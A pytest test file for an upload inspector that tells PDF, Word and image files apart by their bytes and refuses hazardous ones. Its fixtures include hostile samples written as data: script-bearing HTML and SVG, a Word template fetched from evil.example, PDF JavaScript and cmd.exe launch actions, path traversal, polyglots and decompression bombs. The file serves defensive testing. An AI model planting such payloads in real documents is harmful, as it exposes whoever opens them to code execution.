"""A file is what its bytes say, whoever sent it under whatever name."""

from __future__ import annotations

import zlib
from io import BytesIO

import pytest

from services.licensing.adapters.documents import word
from services.licensing.adapters.documents.looking import Looker
from services.licensing.domain.documents.types import DOCX, HEIC, JPEG, PDF, PNG, WEBP
from tests.support.documents import (
    a_jpeg,
    a_pdf,
    a_png,
    a_word,
    an_archive,
    objects_in_a_stream,
)

HEIC_FILE = b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + bytes(100)
WEBP_FILE = b"RIFF\x1c\0\0\0WEBPVP8 " + bytes(20)
PAGE = b"<!DOCTYPE html><script>alert(1)</script>"
VECTORS = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
TEMPLATE = (
    b'<Relationships><Relationship Type="http://x/relationships/attachedTemplate" '
    b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)


def is_a(data: bytes) -> str | None:
    return Looker().media_type(BytesIO(data))


def hazard(media_type: str, data: bytes) -> str | None:
    return Looker().hazard(media_type, BytesIO(data))


@pytest.mark.parametrize(
    ("media_type", "data"),
    [
        (PDF, a_pdf()),
        (JPEG, a_jpeg()),
        (PNG, a_png()),
        (WEBP, WEBP_FILE),
        (HEIC, HEIC_FILE),
        (DOCX, a_word()),
        (DOCX, a_word({"word/media/1.png": bytes(20_000)})),
    ],
)
def test_what_is_taken_is_known_by_its_bytes_and_is_no_hazard(media_type: str, data: bytes) -> None:
    assert is_a(data) == media_type
    assert hazard(media_type, data) is None


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"%PD",
        "نص عادي".encode(),
        b"MZ\x90\0" + bytes(500),
        b"\x7fELF" + bytes(500),
        PAGE,
        VECTORS,
        b"<?xml version='1.0'?>" + VECTORS,
        PAGE + a_pdf(),
        b"\n" + a_pdf(),
        b"GIF89a" + bytes(100),
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
        an_archive({"a.txt": b"x"}),
        an_archive({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<x/>"}),
        an_archive({"[Content_Types].xml": b"wordprocessingml.document.main+xml"}),
        a_word()[:-30],
        b"PK\x03\x04" + bytes(500),
    ],
)
def test_everything_else_is_nothing_that_is_taken(data: bytes) -> None:
    assert is_a(data) is None


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (a_pdf(trailer=b"/Encrypt 12 0 R"), "document_encrypted"),
        (a_pdf(trailer=b"/Encrypt<< /Filter /Standard >>"), "document_encrypted"),
        (a_pdf(trailer=b"/#45ncrypt 12 0 R"), "document_encrypted"),
        (a_pdf(catalog=b"/OpenAction << /S /JavaScript /JS (app.alert) >>"), "document_active"),
        (a_pdf(catalog=b"/OpenAction << /S /J#61vaScript /JS (x) >>"), "document_active"),
        (a_pdf(catalog=b"/AA << /O << /S /Launch /F (cmd.exe) >> >>"), "document_active"),
        (a_pdf(catalog=b"/Names << /EmbeddedFiles 7 0 R >>"), "document_active"),
        (a_pdf(more=objects_in_a_stream(b"<< /S /JavaScript /JS (x) >>")), "document_active"),
        (
            a_pdf(more=objects_in_a_stream(b"x") + b"\n" + objects_in_a_stream(b"/Launch")),
            "document_active",
        ),
        (a_pdf(more=b">>stream\n" * 50_001), "document_bomb"),
        (a_pdf(more=objects_in_a_stream(bytes(65 * 1024 * 1024))), "document_bomb"),
        (a_pdf(more=objects_in_a_stream(b"x").replace(b"x\x9c", b"??")), "document_unreadable"),
        (a_pdf()[:-20], "document_unreadable"),
        (a_pdf(catalog=b"% <script>alert(1)</script>\n"), "document_ambiguous"),
        (a_pdf() + an_archive({"payload.exe": b"MZ"}), "document_ambiguous"),
    ],
)
def test_a_pdf_that_is_closed_or_does_something_is_refused(data: bytes, expected: str) -> None:
    assert is_a(data) == PDF
    assert hazard(PDF, data) == expected


@pytest.mark.parametrize(
    "data",
    [
        a_pdf(more=b"(the word /Encrypted, and JavaScript in a text)"),
        a_pdf(more=b"/Metadata /EncryptMetadata false"),
        a_pdf(more=objects_in_a_stream(b"<< /Type /Page >>")),
        a_pdf(more=b"8 0 obj << /Filter /FlateDecode >>\nstream\n" + zlib.compress(bytes(10**6))),
    ],
)
def test_a_pdf_that_only_speaks_of_such_things_is_taken(data: bytes) -> None:
    assert hazard(PDF, data) is None


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (a_word({"word/vbaProject.bin": b"x"}), "document_active"),
        (a_word({"word/activeX/activeX1.xml": b"x"}), "document_active"),
        (a_word({"word/_rels/settings.xml.rels": TEMPLATE}), "document_active"),
        (a_word({"word/big.bin": bytes(30 * 1024 * 1024)}), "document_bomb"),
        (a_word(text=b"<!DOCTYPE x [<!ENTITY a 'aa'>]><x/>"), "document_bomb"),
        (a_word({f"word/{number}": b"" for number in range(5001)}), "document_bomb"),
        (a_word({"../../evil": b"x"}), "document_unreadable"),
        (a_word({"WORD/document.xml": b"x"}), "document_unreadable"),
        (a_word().replace(b"<w:document/>", b"<w:documenX/>"), None),
    ],
)
def test_a_word_document_that_does_something_is_refused(data: bytes, expected: str | None) -> None:
    assert is_a(data) == DOCX
    assert hazard(DOCX, data) == expected


def test_a_word_document_whose_text_is_not_what_its_checksum_says_is_damaged() -> None:
    stored = a_word({"word/notes.txt": b"".join(bytes([n]) for n in range(256))})
    at = stored.index(bytes(range(100, 120)))
    damaged = stored[:at] + b"\0" + stored[at + 1 :]
    assert hazard(DOCX, damaged) == "document_unreadable"


def test_a_word_document_under_a_password_cannot_be_looked_into() -> None:
    data = bytearray(a_word())
    for mark, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.rindex(mark)
        data[at + flags] |= 1
    assert hazard(DOCX, bytes(data)) == "document_encrypted"


@pytest.mark.parametrize(
    ("media_type", "data", "expected"),
    [
        (PNG, a_png(60_000, 60_000), "document_bomb"),
        (PNG, a_png(0, 4), "document_unreadable"),
        (PNG, a_png()[:-12], "document_unreadable"),
        (PNG, a_png(comment=PAGE), "document_ambiguous"),
        (PNG, a_png() + an_archive({"a": b"x"}), "document_ambiguous"),
        (JPEG, a_jpeg(60_000, 60_000), "document_bomb"),
        (JPEG, a_jpeg()[:-2], "document_unreadable"),
        (JPEG, b"\xff\xd8\xff", "document_unreadable"),
        (JPEG, b"\xff\xd8" + b"\xff" * 100 + b"\xd9", "document_unreadable"),
        (WEBP, WEBP_FILE[:-5], "document_unreadable"),
    ],
)
def test_an_image_that_is_broken_or_more_than_an_image_is_refused(
    media_type: str, data: bytes, expected: str
) -> None:
    assert hazard(media_type, data) == expected


def test_a_photograph_may_end_with_what_its_telephone_added() -> None:
    assert hazard(JPEG, a_jpeg(behind=b"SEFT" * 100)) is None


def test_nothing_that_calls_itself_an_archive_breaks_the_look() -> None:
    whole = a_word()
    for cut in range(0, len(whole), 7):
        assert word.is_one(BytesIO(whole[:cut])) is False
        assert hazard(DOCX, whole[:cut]) == "document_unreadable"
    for at in range(0, len(whole), 3):
        changed = whole[:at] + bytes([whole[at] ^ 0xFF]) + whole[at + 1 :]
        hazard(DOCX, changed)
        is_a(changed)
